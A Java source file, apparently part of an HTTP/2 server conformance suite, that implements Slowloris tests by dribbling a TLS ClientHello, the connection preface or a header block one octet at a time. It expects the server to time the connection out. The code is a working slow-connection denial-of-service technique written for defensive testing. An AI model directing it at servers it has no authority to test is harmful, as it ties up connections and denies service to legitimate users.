package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;
import java.util.Arrays;

/** A beginning that never completes: one octet now and then. */
enum Slowloris implements Attack {
  /** The TLS handshake. */
  TLS("slow-tls", "2026-45416"),
  /** The preface. */
  PREFACE("slow-preface", ""),
  /** A header block, with a frame now and then. */
  HEADER_BLOCK("slow-headers", "");

  /** A TLS record of a handshake, 512 octets long, with a ClientHello of 508. */
  private static final byte[] CLIENT_HELLO = {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3};

  private static final int SETTLING_MILLIS =
      200; // time for the server's settings to be acknowledged
  private static final int PAUSE_MILLIS = 1_500;
  private static final int MAX_FRAMES =
      8; // frames of a block: more would be a flood, which is another attack

  private final String name;
  private final String cve;

  Slowloris(String name, String cve) {
    this.name = name;
    this.cve = cve;
  }

  @Override
  public AttackDescription description() {
    return new AttackDescription(
            name, "RFC 9113 §10.5", Fate.TIMED_OUT, "gives a beginning seconds, not for ever")
        .published(cve);
  }

  @Override
  public void attack(Front front) throws IOException {
    switch (this) {
      case TLS -> dribble(front, front.connectToTls(), CLIENT_HELLO);
      case PREFACE -> dribble(front, front.connectSilently(), Frames.preface());
      case HEADER_BLOCK -> dribbleBlock(front);
    }
  }

  private static void dribble(Front front, RawConnection connection, byte[] beginning)
      throws IOException {
    for (int i = 0; front.goesOn(connection); i++) {
      if (i < beginning.length - 1) {
        connection.send(new byte[] {beginning[i]});
        connection.flush();
      }
      front.pauseMillis(PAUSE_MILLIS);
    }
  }

  private static void dribbleBlock(Front front) throws IOException {
    RawConnection connection = front.connect();
    byte[] block = Requests.to(Requests.UNARY).next();
    front.pauseMillis(SETTLING_MILLIS);
    connection.flush();
    connection.acknowledgeNothing();
    connection.send(Frames.headers(1, Frames.NONE, Arrays.copyOf(block, 1)));
    connection.flush();
    for (int i = 1; front.goesOn(connection); i++) {
      front.pauseMillis(PAUSE_MILLIS);
      if (i < MAX_FRAMES) {
        connection.send(Frames.continuation(1, Frames.NONE, Arrays.copyOfRange(block, i, i + 1)));
        connection.flush();
      }
    }
  }
}
